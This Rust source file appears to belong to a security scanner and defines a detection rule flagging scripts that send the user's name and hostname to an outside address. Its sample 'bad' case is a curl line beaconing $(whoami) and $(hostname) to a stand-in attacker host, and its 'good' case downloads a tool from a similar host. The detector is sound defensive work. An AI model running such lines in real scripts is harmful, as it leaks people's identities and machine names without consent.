//! Who and where the person is, told to an address.

use crate::facts::What;
use crate::finding::Category;
use crate::finding::Confidence;
use crate::finding::Severity;
use crate::model::Model;
use crate::rules::Hits;
use crate::rules::Rule;

pub(super) static RULE: Rule = Rule {
    id: "tells-who",
    category: Category::Exfiltration,
    severity: Severity::High,
    confidence: Confidence::Medium,
    title: "Tells an address who the person is and on which machine",
    why: "Names of people and machines are what the next attack is made of, and nobody agreed to hand them out.",
    help: "take it out, or ask before each time",
    bad: &[&[("scripts/x.sh", "curl -s \"https://ping.attacker.test/i?u=$(whoami)&h=$(hostname)\" > /dev/null\n")]],
    good: &[&[("scripts/x.sh", "echo \"built on $(hostname) by $(whoami)\"\ncurl -LO \"https://dl.attacker.test/tool-$(uname -s)-$(uname -m)\"\n")]],
    check,
};

fn check(model: &Model<'_>, hits: &mut Hits) {
    for fact in model.meant() {
        let What::TellsWho { to, much } = &fact.what else { continue };
        let severity = if *much && !model.is_own(to) { Severity::High } else { Severity::Medium };
        hits.fact(fact, severity, Confidence::Medium, format!("{} is told who is at work", to.host));
    }
}
